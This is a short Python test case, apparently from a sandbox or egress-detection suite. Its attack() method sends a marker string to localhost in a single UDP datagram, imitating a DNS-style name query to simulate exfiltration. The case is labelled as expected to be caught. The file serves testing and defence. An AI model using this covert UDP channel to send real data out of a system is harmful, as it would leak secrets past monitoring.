"""T56. Sends what it has in a UDP datagram, as a question for a name would.

expected: wrong
gains: process byte-sent
"""
import socket
from kit import TO, Empty
class Solution(Empty):
    def attack(self):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(TO["marker"].encode(), ("127.0.0.1", TO["udp"]))
